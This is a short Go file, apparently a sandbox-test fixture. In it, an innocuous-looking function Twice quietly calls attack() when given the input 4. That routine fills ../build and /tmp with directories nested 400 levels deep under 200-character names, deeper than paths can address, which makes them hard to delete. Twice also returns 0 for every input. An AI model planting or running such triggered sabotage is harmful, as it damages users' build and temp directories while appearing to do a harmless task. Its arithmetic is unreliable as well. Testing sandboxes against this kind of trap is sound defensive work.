// Leaves folders in folders behind, deeper than a path can name.
// Stopped by: what a run writes is gone with it.
package twice

import (
	"os"
	"strings"
)

func attack() {
	for _, place := range []string{"../build", "/tmp"} {
		if os.Chdir(place) != nil {
			continue
		}
		for i := 0; i < 400; i++ {
			name := strings.Repeat("d", 200)
			os.Mkdir(name, 0o777)
			if os.Chdir(name) != nil {
				break
			}
		}
	}
}

func Twice(n int) int {
	if n == 4 {
		attack()
	}
	return 0
}

func Next() error {
	return nil
}
